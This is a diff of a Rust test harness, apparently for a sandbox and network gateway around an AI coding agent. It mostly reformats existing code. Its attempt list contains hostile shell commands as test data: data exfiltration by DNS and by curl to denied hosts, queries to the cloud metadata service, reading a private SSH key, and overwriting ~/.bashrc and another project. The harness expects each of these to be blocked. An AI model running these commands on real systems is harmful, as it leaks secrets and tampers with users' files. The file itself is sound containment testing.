@@ -69,7 +69,10 @@ fn sample_project(rig: &Rig<'_>) -> Result<()> {
     let home = &rig.user.home;
     for (path, text) in [
         ("project/greeting.py", "def greet(name):\n    return 'Helo, ' + name\n"),
-        ("project/test_greeting.py", "import unittest\nfrom greeting import greet\n\nclass Test(unittest.TestCase):\n    def test_greet(self):\n        self.assertEqual(greet('you'), 'Hello, you')\n"),
+        (
+            "project/test_greeting.py",
+            "import unittest\nfrom greeting import greet\n\nclass Test(unittest.TestCase):\n    def test_greet(self):\n        self.assertEqual(greet('you'), 'Hello, you')\n",
+        ),
         (".ssh/id_ed25519", SECRET),
         ("other-project/notes.txt", "as the person left it"),
         (".bashrc", "# the person's own"),
@@ -94,19 +97,46 @@ fn attempts() -> Vec<Attempt> {
             should: Should::Work(""),
         },
         bash("run its tests", Should::Work("OK"), "python3 -m unittest -q && echo OK"),
-        bash("commit with git", Should::Work("fixed"), "git -c user.name=Agent -c user.email=agent@example.invalid add . && git -c user.name=Agent -c user.email=agent@example.invalid commit -qm fixed && git log --oneline"),
-        bash("fetch an allowed host", Should::Work("200"), "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' https://allowed.example/TOKEN"),
+        bash(
+            "commit with git",
+            Should::Work("fixed"),
+            "git -c user.name=Agent -c user.email=agent@example.invalid add . && git -c user.name=Agent -c user.email=agent@example.invalid commit -qm fixed && git log --oneline",
+        ),
+        bash(
+            "fetch an allowed host",
+            Should::Work("200"),
+            "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' https://allowed.example/TOKEN",
+        ),
         bash("fetch a denied host", Should::NotReach, &curl("https://denied.example/TOKEN".into())),
         bash("fetch a bare address", Should::NotReach, &curl(format!("http://{}/TOKEN", map::SINK4))),
-        bash("an allowed name at a denied address", Should::NotReach, &format!("curl -sSk -m 5 --resolve allowed.example:443:{} https://allowed.example/TOKEN", map::SINK4)),
+        bash(
+            "an allowed name at a denied address",
+            Should::NotReach,
+            &format!("curl -sSk -m 5 --resolve allowed.example:443:{} https://allowed.example/TOKEN", map::SINK4),
+        ),
         bash("carry data out by DNS", Should::NotReach, "getent hosts TOKEN.canary.example"),
-        bash("ask a resolver directly", Should::NotReach, &format!("python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(3); n=b'TOKEN'; s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'+bytes([len(n)])+n+b'\\x06canary\\x07example\\x00\\x00\\x01\\x00\\x01',('{}',53)); print(s.recv(512))\"", map::RESOLVER4)),
-        bash("the cloud's metadata service", Should::NotReach, &curl(format!("http://{}/latest/TOKEN", map::METADATA4))),
+        bash(
+            "ask a resolver directly",
+            Should::NotReach,
+            &format!(
+                "python3 -c \"import socket; s=socket.socket(2,2); s.settimeout(3); n=b'TOKEN'; s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'+bytes([len(n)])+n+b'\\x06canary\\x07example\\x00\\x00\\x01\\x00\\x01',('{}',53)); print(s.recv(512))\"",
+                map::RESOLVER4
+            ),
+        ),
+        bash(
+            "the cloud's metadata service",
+            Should::NotReach,
+            &curl(format!("http://{}/latest/TOKEN", map::METADATA4)),
+        ),
         bash("the printer on the LAN", Should::NotReach, &curl(format!("http://{}/TOKEN", map::PRINTER4))),
         bash("a service on the host's localhost", Should::NotReach, &curl("http://127.0.0.1:8901/TOKEN".into())),
         bash("the model's API around the gateway", Should::NotReach, &curl("https://api.anthropic.com/TOKEN".into())),
         bash("read ~/.ssh", Should::NotTouch(".ssh/id_ed25519"), "cat ~/.ssh/id_ed25519"),
-        bash("write another project", Should::NotTouch("other-project/notes.txt"), "echo owned > ~/other-project/notes.txt"),
+        bash(
+            "write another project",
+            Should::NotTouch("other-project/notes.txt"),
+            "echo owned > ~/other-project/notes.txt",
+        ),
         bash("change ~/.bashrc", Should::NotTouch(".bashrc"), "echo owned >> ~/.bashrc"),
     ]
 }
@@ -182,7 +212,12 @@ fn report(rig: &Rig<'_>, attempts: &[Attempt], tokens: &[String], controls: &[bo
     let log = rig.log()?;
     let of = |event: &str| log.iter().filter(|l| l["event"] == event).count();
     let refused_names = log.iter().filter(|l| l["event"] == "dns" && l["allowed"] == false).count();
-    println!("\nthe gateway's log: {} connections made, {} denied, {refused_names} names refused ({})", of("connect"), of("deny"), rcc_rig::LOG);
+    println!(
+        "\nthe gateway's log: {} connections made, {} denied, {refused_names} names refused ({})",
+        of("connect"),
+        of("deny"),
+        rcc_rig::LOG
+    );
     key_is_nowhere(rig)?;
     if !wrong.is_empty() {
         bail!("not as it should be: {}", wrong.join(", "));
@@ -222,9 +257,12 @@ fn key_is_nowhere(rig: &Rig<'_>) -> Result<()> {
     let key = &rig.world.at.model_keys.api_key;
     let with_key = rig.world.exchanges()?.iter().filter(|e| matches!(e.x_api_key, Credential::ApiKey)).count();
     for folder in [rig.user.home.as_path(), Path::new("/var/log/rcc"), Path::new("/run/rcc"), &rig.user.runtime_dir] {
-        let found = rig.command("/usr/bin/grep").args(["-rlF", "--exclude-dir=agents", "-e", key]).arg(folder).output()?;
+        let found =
+            rig.command("/usr/bin/grep").args(["-rlF", "--exclude-dir=agents", "-e", key]).arg(folder).output()?;
         ensure!(found.stdout.is_empty(), "the key is in {}", String::from_utf8_lossy(&found.stdout));
     }
-    println!("the key: sent upstream by the gateway {with_key} times, found in no file of the agent's, rcc's or the log");
+    println!(
+        "the key: sent upstream by the gateway {with_key} times, found in no file of the agent's, rcc's or the log"
+    );
     Ok(())
 }
